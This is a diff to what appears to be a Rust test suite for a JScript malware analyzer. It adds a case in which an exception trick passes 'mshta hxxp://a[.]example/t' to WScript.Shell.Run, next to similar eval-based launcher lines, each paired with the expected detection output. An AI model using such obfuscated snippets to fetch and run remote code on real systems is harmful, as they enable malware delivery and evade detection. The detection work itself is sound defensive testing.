@@ -462,6 +462,10 @@ fn the_script_host_runs_jscript() {
             text:1 SystemBinary []
               host a.example
               url hxxp://a[.]example/5
+            -- try{throw 'mshta hxxp://a[.]example/t'}catch(e){new ActiveXObject('WScript.Shell').Run(e)}
+            text:1 SystemBinary []
+              host a.example
+              url hxxp://a[.]example/t
             -- /*@cc_on eval('new ActiveXObject("WScript.Shell").Run("mshta hxxp://a[.]example/6")') @*/
             text:1 SystemBinary [eval]
               host a.example
